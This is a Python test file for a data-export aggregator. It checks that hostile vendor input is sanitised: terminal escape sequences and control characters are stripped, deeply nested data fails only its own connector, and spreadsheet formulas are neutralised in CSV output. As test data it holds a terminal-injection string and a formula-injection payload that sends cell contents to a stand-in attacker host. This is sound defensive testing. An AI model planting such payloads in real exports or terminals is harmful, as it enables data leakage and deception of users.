"""Hostile vendor data and error text never end an export: unprintable characters are replaced (and counted),
absurd nesting fails only that connector, and nothing a vendor says reaches a terminal as an escape sequence."""

from __future__ import annotations

import json
from collections.abc import Iterator
from typing import Any

from aggregator.connector import Connector, Record
from aggregator.errors import VendorError
from aggregator.hookspecs import hookimpl
from aggregator.sandbox import Fault
from aggregator.text import MAX_DEPTH, clean_data, printable
from tests.conftest import DEMO

HOSTILE = "Jan \ud83d De\x1b]0;owned\x07smet\x00 \x1b[2J\x1b[1;1Hstatus: complete"


def _plugin(cls: type[Connector]) -> object:
    class Plugin:
        @hookimpl
        def register_connectors(self, register: Any) -> None:
            register(cls)

    return Plugin()


class _Evil(Connector):
    name = "evil"
    processor = "lightspeed"
    categories = ("contact",)
    payload: Any = None
    error: str | None = None

    def collect(self) -> Iterator[Record]:
        yield self.ctx.record("contact", "customer", {"name": self.payload}, endpoint="GET /customers")
        if self.error:
            raise VendorError(self.error)


def test_clean_data_replaces_and_counts_without_recursion():
    deep: Any = "x"
    for _ in range(MAX_DEPTH):
        deep = [deep]
    data, n = clean_data({"a\ud800": HOSTILE, "n": 1, "deep": deep[0]})
    assert n == 1 + HOSTILE.count("\x1b") + 3    # key surrogate + 3 ESC + surrogate, BEL, NUL
    text = json.dumps(data, ensure_ascii=False)
    assert "\x1b" not in text and "\x00" not in text and "\ufffd" in text
    text.encode("utf-8")                           # no lone surrogate left: it encodes


def test_printable_keeps_one_line_and_no_escape():
    out = printable("a\nb\x1b[31mred\x07")
    assert "\n" not in out and "\x1b" not in out and "\x07" not in out and out.startswith("a")


def test_hostile_text_in_a_record_and_in_an_error_costs_nothing(run_export, sandbox):
    class Evil(_Evil):
        payload = HOSTILE
        error = f"evil: 500 {HOSTILE}"

    sandbox.inject(Fault("mailchimp", status=500, body={"detail": HOSTILE}, times=None))
    pkg = run_export(DEMO, ["lightspeed", "mailchimp"], {"lightspeed": {"requests_per_second": 0}, "evil": {}},
                     plugins=[_plugin(Evil)], only=["evil", "lightspeed", "mailchimp"])
    outcomes = pkg.result.connectors
    assert outcomes["lightspeed"].status == "complete" and outcomes["lightspeed"].records > 1000
    assert outcomes["evil"].status == "failed" and outcomes["evil"].records == 1
    assert outcomes["mailchimp"].status == "failed"
    for o in (outcomes["evil"], outcomes["mailchimp"]):
        assert "\x1b" not in (o.error or "") and "\ud83d" not in (o.error or "")
    record = pkg.records("lightspeed", "customer")
    names = [r["data"]["name"] for r in record if "name" in r["data"]]
    assert names and "\x1b" not in names[0] and "\ufffd" in names[0]
    assert any("replaced" in n and "unprintable" in n for n in outcomes["evil"].notes)
    assert "\x1b" not in pkg.text() and "\x00" not in pkg.text()


def test_nesting_beyond_reason_fails_only_that_connector(run_export):
    deep: Any = "bottom"
    for _ in range(250):
        deep = {"k": deep}

    class Evil(_Evil):
        payload = deep

    pkg = run_export(DEMO, ["silvasoft"], {"evil": {}}, plugins=[_plugin(Evil)], only=["evil", "silvasoft"])
    assert pkg.result.connectors["evil"].status == "failed"
    assert "nested more than 64 levels deep" in (pkg.result.connectors["evil"].error or "")
    assert pkg.result.connectors["silvasoft"].status == "complete"
    assert pkg.result.status == "partial"


def test_spreadsheet_formulas_from_a_vendor_are_neutralised_in_csv(run_export):
    import csv
    import io

    class Formula(_Evil):
        payload = '=HYPERLINK("https://evil.example/?"&A1,"Klik")'

    pkg = run_export(DEMO, [], {"evil": {}}, plugins=[_plugin(Formula)], only=["evil"])
    name = next(n for n in pkg.zip.namelist() if n.endswith("/lightspeed.csv"))
    rows = list(csv.reader(io.StringIO(pkg.zip.read(name).decode("utf-8-sig")), delimiter=";"))
    cells = [c for row in rows[1:] for c in row]
    assert "'=HYPERLINK(\"https://evil.example/?\"&A1,\"Klik\")" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
